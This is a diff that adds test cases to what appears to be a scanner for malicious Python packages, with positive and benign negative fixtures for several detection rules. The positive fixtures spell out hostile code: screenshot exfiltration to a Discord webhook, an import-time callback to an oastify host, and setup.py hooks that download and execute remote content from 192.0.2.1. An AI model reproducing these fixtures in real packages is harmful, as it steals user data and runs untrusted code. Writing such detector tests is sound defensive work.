@@ -332,6 +332,52 @@ const CASES: Case[] = [
     negative: { 'setup.py': `import subprocess\nsubprocess.Popen(['git', 'describe'])\n${SETUP}` },
   },
   {
+    rule: 'PY-024',
+    positive: {
+      'fixture_py/__init__.py': '',
+      'fixture_py/loop.py':
+        "import pyautogui, requests\ndef main_loop():\n    pyautogui.screenshot().save('s.png')\n    requests.post('https://discord.com/api/webhooks/1/abc', files={'s': open('s.png', 'rb').read()})\n",
+    },
+    negative: {
+      'fixture_py/__init__.py': '',
+      'fixture_py/shot.py':
+        "import pyautogui, requests\ndef shot():\n    pyautogui.screenshot().save('s.png')\ndef notify(msg):\n    requests.post('https://example.invalid/hook', json={'m': msg})\n",
+    },
+    check: (r) => {
+      expect(findingsOf(r, 'PY-024')[0]?.context).toBe('runtime');
+      expect(r.verdict).not.toBe('clean');
+    },
+  },
+  {
+    rule: 'PY-024',
+    positive: {
+      'fixture_py/__init__.py':
+        "import requests\ndef notify():\n    requests.post('http://abc123.oastify.com', json={'m': 'imported'})\n",
+    },
+    negative: {
+      'fixture_py/__init__.py':
+        "import requests\ndef notify():\n    requests.post('https://discord.com/api/webhooks/1/abc', json={'m': 'build done'})\n",
+    },
+  },
+  {
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://192.0.2.1/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\nrn()\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://192.0.2.1/notes.txt').read()\n    d = open('notes.txt', 'wb')\n    d.write(data)\n    d.close()\nrn()\n${SETUP}`,
+    },
+  },
+  {
+    rule: 'PY-010',
+    positive: {
+      'setup.py': `import subprocess\nbanner = subprocess.getoutput('curl http://192.0.2.1/msg.html')\nsubprocess.getoutput(str(banner))\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import subprocess\nbanner = subprocess.getoutput('curl http://192.0.2.1/msg.html')\nprint(banner)\n${SETUP}`,
+    },
+  },
+  {
     rule: 'NET-001',
     positive: {
       'setup.py': `import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'c': 'hi'})\n${SETUP}`,
